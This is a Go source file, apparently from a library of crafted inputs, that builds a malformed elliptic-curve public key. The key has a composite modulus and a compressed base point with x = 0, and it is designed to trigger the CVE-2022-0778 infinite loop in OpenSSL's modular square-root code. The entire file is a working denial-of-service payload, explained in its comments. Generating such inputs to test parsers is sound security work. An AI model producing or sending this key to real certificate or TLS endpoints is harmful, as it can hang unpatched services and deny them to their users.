package forge

import (
	"encoding/asn1"
	"math/big"
)

// The curve of CVE-2022-0778. Its modulus is 17 times 41, which no field has,
// and the base point is compressed: who decompresses it by the algorithm of
// Tonelli and Shanks, without asking whether the modulus is prime, looks for a
// square root of -1 for ever. The point has x = 0, so that b alone is that -1.
var (
	endlessModulus = big.NewInt(17 * 41)
	endlessB       = []byte{0x02, 0xb8} // 696, as the field element that it is written as
	endlessPoint   = []byte{0x02, 0, 0}
)

// endlessCurve is a SubjectPublicKeyInfo with explicit parameters, RFC 3279
// 2.3.5, that RFC 5480 2.1.1 forbids.
func endlessCurve([]byte) ([]byte, error) {
	type field struct {
		Type    asn1.ObjectIdentifier
		Modulus *big.Int
	}
	type curve struct{ A, B []byte }
	type parameters struct {
		Version  int
		Field    field
		Curve    curve
		Base     []byte
		Order    *big.Int
		Cofactor int
	}
	return asn1.Marshal(struct {
		Algorithm struct {
			Type       asn1.ObjectIdentifier
			Parameters parameters
		}
		Key asn1.BitString
	}{
		Algorithm: struct {
			Type       asn1.ObjectIdentifier
			Parameters parameters
		}{
			Type: asn1.ObjectIdentifier{1, 2, 840, 10045, 2, 1}, // id-ecPublicKey
			Parameters: parameters{
				Version: 1,
				Field:   field{asn1.ObjectIdentifier{1, 2, 840, 10045, 1, 1}, endlessModulus}, // prime-field
				Curve:   curve{endlessB, endlessB},
				Base:    endlessPoint, Order: endlessModulus, Cofactor: 1,
			},
		},
		Key: asn1.BitString{Bytes: endlessPoint, BitLength: 8 * len(endlessPoint)},
	})
}
